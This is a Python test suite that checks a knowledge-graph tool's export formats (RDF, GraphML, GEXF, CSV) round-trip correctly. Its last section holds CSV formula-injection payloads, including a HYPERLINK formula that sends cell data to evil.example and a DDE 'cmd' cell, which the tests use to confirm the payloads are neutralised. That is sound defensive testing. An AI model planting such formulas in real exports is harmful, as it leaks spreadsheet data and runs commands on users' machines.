"""`ccakg export DIR --format …`: every format read back to what the build's store holds.

RDF formats (ttl, trig, nq, jsonld) back into pyoxigraph and rdflib: the same triples or quads. GraphML
and GEXF back with networkx: the explorer's entity graph, same nodes, edges and labels. CSV back with the
csv module: one row per entity, relation and evidence node, Chinese text intact.
"""
from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections import Counter
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
import rdflib
from click.testing import CliRunner

from kg.cli import cli
from kg.web.explorer import graph_view
from kg.export import (CSV_TABLES, ENTITY_COLUMNS, EVIDENCE_COLUMNS, EXPORT_FORMATS, EXPORTERS, RELATION_COLUMNS,
                       ExportError, default_destination, export, open_build)
from kg.namespaces import SPARQL_PREFIXES
from kg.store import OxigraphStore

CNCA = "国家认证认可监督管理委员会"
BOM = b"\xef\xbb\xbf"


@pytest.fixture(scope="module")
def build_dir(examples_build) -> Path:
    return examples_build[0]


@pytest.fixture(scope="module")
def store_quads(build_dir: Path) -> set[ox.Quad]:
    return canonical(ox.Store.read_only(str(build_dir / "store")))


@pytest.fixture(scope="module")
def view(build_dir: Path) -> nx.MultiDiGraph:
    with open_build(build_dir) as store:
        return graph_view(store)


def canonical(quads) -> set[ox.Quad]:
    dataset = ox.Dataset(quads)
    dataset.canonicalize(ox.CanonicalizationAlgorithm.UNSTABLE)
    return set(dataset)


def triples(quads: set[ox.Quad]) -> set[ox.Triple]:
    return {ox.Triple(q.subject, q.predicate, q.object) for q in quads}


def rdflib_quads(dataset: rdflib.Dataset) -> set[ox.Quad]:
    return canonical(ox.parse(dataset.serialize(format="nquads", encoding="utf-8"), ox.RdfFormat.N_QUADS))


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM), "CSV is written with a BOM for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_exporters_cover_every_format() -> None:
    assert set(EXPORTERS) == set(EXPORT_FORMATS) == {"ttl", "trig", "nq", "jsonld", "graphml", "gexf", "csv"}


# -- RDF -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt,rdf_format", [("trig", ox.RdfFormat.TRIG), ("nq", ox.RdfFormat.N_QUADS),
                                            ("jsonld", ox.RdfFormat.JSON_LD)])
def test_quad_formats_roundtrip_pyoxigraph(build_dir: Path, tmp_path: Path, store_quads, fmt: str, rdf_format) -> None:
    path = export(build_dir, fmt, tmp_path / f"graph.{fmt}")
    assert canonical(ox.parse(path=str(path), format=rdf_format)) == store_quads
    assert CNCA in path.read_text(encoding="utf-8")  # raw UTF-8, not escaped


@pytest.mark.parametrize("fmt,rdflib_format", [("trig", "trig"), ("nq", "nquads"), ("jsonld", "json-ld")])
def test_quad_formats_roundtrip_rdflib(build_dir: Path, tmp_path: Path, store_quads, fmt: str,
                                       rdflib_format: str) -> None:
    path = export(build_dir, fmt, tmp_path / f"graph.{fmt}")
    dataset = rdflib.Dataset()
    dataset.parse(path, format=rdflib_format)
    assert rdflib_quads(dataset) == store_quads


def test_jsonld_has_one_graph_object_per_named_graph(build_dir: Path, tmp_path: Path, store_quads) -> None:
    import json

    document = json.loads(export(build_dir, "jsonld", tmp_path / "g.jsonld").read_text(encoding="utf-8"))
    graphs = {item["@id"] for item in document if "@graph" in item}
    assert graphs == {q.graph_name.value for q in store_quads}


def test_turtle_is_the_merged_graph(build_dir: Path, tmp_path: Path, store_quads) -> None:
    path = export(build_dir, "ttl", tmp_path / "graph.ttl")
    read_back = list(ox.parse(path=str(path), format=ox.RdfFormat.TURTLE))
    assert len(set(read_back)) == len(triples(store_quads))  # repeats (one per graph) merge on reading
    assert triples(canonical(read_back)) == triples(store_quads)
    assert len(rdflib.Graph().parse(path, format="turtle")) == len(triples(store_quads))


# -- graphs for Gephi ----------------------------------------------------------------------------------


def node_labels(graph: nx.Graph) -> Counter:
    return Counter(str(graph.nodes[n]["label"]) for n in graph.nodes)


def pair_labels(graph: nx.Graph) -> dict[tuple[str, str], set[str]]:
    """(source, target) → the single labels of the edges between them (a Gephi edge joins them with 、)."""
    pairs: dict[tuple[str, str], set[str]] = {}
    for s, t, a in graph.edges(data=True):
        pairs.setdefault((str(s), str(t)), set()).update(str(a["label"]).split("、"))
    return pairs


@pytest.mark.parametrize("fmt,reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_graph_formats_roundtrip_networkx(build_dir: Path, tmp_path: Path, view: nx.MultiDiGraph,
                                          fmt: str, reader) -> None:
    """The explorer's entities and relations; colours, layout, weights and time: tests/kg/test_gephi.py."""
    graph = reader(export(build_dir, fmt, tmp_path / f"graph.{fmt}"))
    assert graph.is_directed()
    assert set(graph.nodes) == set(view.nodes) and graph.number_of_nodes() > 50
    assert node_labels(graph) == node_labels(view)
    assert pair_labels(graph) == pair_labels(view) and len(pair_labels(view)) > 50


# -- CSV -----------------------------------------------------------------------------------------------


def evidence_count(build_dir: Path) -> int:
    with open_build(build_dir) as store:
        return int(store.select(SPARQL_PREFIXES + "SELECT (COUNT(DISTINCT ?e) AS ?n) WHERE { ?e a kgo:Evidence }")
                   [1][0][0])


def check_tables(tables: dict[str, bytes], build_dir: Path, view: nx.MultiDiGraph) -> None:
    entities, relations, evidence = (read_csv(tables[name]) for name in CSV_TABLES)
    assert list(entities[0]) == ENTITY_COLUMNS and list(relations[0]) == RELATION_COLUMNS
    assert list(evidence[0]) == EVIDENCE_COLUMNS
    assert len(entities) == view.number_of_nodes()
    assert {row["iri"] for row in entities} == set(view.nodes)
    cnca = next(row for row in entities if row["name_zh_hans"] == CNCA)
    assert cnca["type"] == "Agency" and cnca["name_zh_hant"] == "國家認證認可監督管理委員會"
    assert "认监委" in cnca["aliases"].split(" | ")
    assert {(r["subject"], r["object"], r["relation_label"]) for r in relations} \
        == {(s, t, a["label"]) for s, t, a in view.edges(data=True)}
    assert all(r["subject_name"] == view.nodes[r["subject"]]["label"] for r in relations)
    assert len(evidence) == evidence_count(build_dir)
    texts = source_texts(build_dir)
    for row in evidence:  # the quote is the raw text between start and end, as the contract says
        assert row["body"] and row["quote"] and row["rule"]
        assert texts[row["doc_id"]][int(row["start"]):int(row["end"])] == row["quote"]


def source_texts(build_dir: Path) -> dict[str, str]:
    """doc id → the source file as decoded (kgo:sourcePath, kgo:encoding)."""
    query = SPARQL_PREFIXES + """SELECT DISTINCT ?id ?path ?encoding WHERE {
        ?s a kgo:SourceText ; dct:identifier ?id ; kgo:sourcePath ?path ; kgo:encoding ?encoding }"""
    with open_build(build_dir) as store:
        rows = store.select(query)[1]
    return {doc_id: Path(path).read_bytes().decode(encoding) for doc_id, path, encoding in rows}


def test_csv_folder_roundtrip(build_dir: Path, tmp_path: Path, view: nx.MultiDiGraph) -> None:
    folder = export(build_dir, "csv", tmp_path / "tables")
    assert sorted(p.name for p in folder.iterdir()) == ["entities.csv", "evidence.csv", "relations.csv"]
    check_tables({name: (folder / f"{name}.csv").read_bytes() for name in CSV_TABLES}, build_dir, view)


def test_csv_zip_roundtrip(build_dir: Path, tmp_path: Path, view: nx.MultiDiGraph) -> None:
    path = export(build_dir, "csv", tmp_path / "tables.zip")
    with zipfile.ZipFile(path) as archive:
        assert sorted(archive.namelist()) == ["entities.csv", "evidence.csv", "relations.csv"]
        check_tables({name: archive.read(f"{name}.csv") for name in CSV_TABLES}, build_dir, view)


def test_csv_into_a_file_is_refused(build_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x", encoding="utf-8")
    with pytest.raises(ExportError, match="folder"):
        export(build_dir, "csv", tmp_path / "file")


# -- export() and the command ---------------------------------------------------------------------------


def test_default_destination_and_graph_trig_fallback(build_dir: Path, tmp_path: Path, store_quads) -> None:
    """Without a store, export reads graph.trig; by default it writes DIR/export/graph.<fmt>."""
    shutil.copy(build_dir / "graph.trig", tmp_path / "graph.trig")
    path = export(tmp_path, "nq")
    assert path == tmp_path / "export" / "graph.nq" == default_destination(tmp_path, "nq")
    assert canonical(ox.parse(path=str(path), format=ox.RdfFormat.N_QUADS)) == store_quads
    assert export(tmp_path, "csv") == tmp_path / "export" / "csv"


def test_export_reads_the_store_while_a_writer_holds_its_lock(build_dir: Path, tmp_path: Path,
                                                              store_quads) -> None:
    with OxigraphStore(build_dir / "store"):  # e.g. a read-write `ccakg serve`
        path = export(build_dir, "trig", tmp_path / "graph.trig")
    assert canonical(ox.parse(path=str(path), format=ox.RdfFormat.TRIG)) == store_quads


def test_export_errors(tmp_path: Path, build_dir: Path) -> None:
    with pytest.raises(ExportError, match="no build"):
        export(tmp_path, "ttl")
    with pytest.raises(ExportError, match="unknown export format"):
        export(build_dir, "xlsx")


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_cli_export(build_dir: Path, tmp_path: Path, fmt: str) -> None:
    dest = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(cli, ["export", str(build_dir), "--format", fmt, "-o", str(dest)])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == str(dest) and dest.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [dest.name]  # no temporary file left


def test_cli_export_rejects_an_unknown_format(build_dir: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(build_dir), "--format", "xlsx"])
    assert result.exit_code == 2 and "xlsx" in result.output


# -- CSV injection (issue 13, item 12) -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(build_dir: Path, tmp_path: Path) -> None:
    from kg.export import write_csv

    store = OxigraphStore()
    store.load(build_dir / "graph.trig", "trig")
    for i, name in enumerate(FORMULAS):
        literal = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        store.update(f'INSERT DATA {{ GRAPH <https://w3id.org/ccakg/graph/entities> {{ '
                     f'kg:o-evil{i} a kgo:Agency ; skos:prefLabel "{literal}"@zh-Hans }} }}')
    entities = read_csv((write_csv(store, tmp_path / "t") / "entities.csv").read_bytes())
    names = {row["name_zh_hans"] for row in entities}
    assert {"'" + f for f in FORMULAS} <= names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t"))]


def test_query_csv_neutralises_formulas_but_not_numbers(build_dir: Path) -> None:
    query = ('SELECT ?x ?n ?p WHERE { VALUES (?x ?n ?p) { '
             '("=1+cmd|\' /C calc\'!A0" "-3.5" "+12%") ("@SUM(1)" "-7" "=2") } }')
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        result = CliRunner().invoke(cli, ["query", query, "--store", str(build_dir / "store"), "--format", fmt])
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.output), delimiter=sep))
        assert rows[1:] == [["'=1+cmd|' /C calc'!A0", "-3.5", "+12%"], ["'@SUM(1)", "-7", "'=2"]]
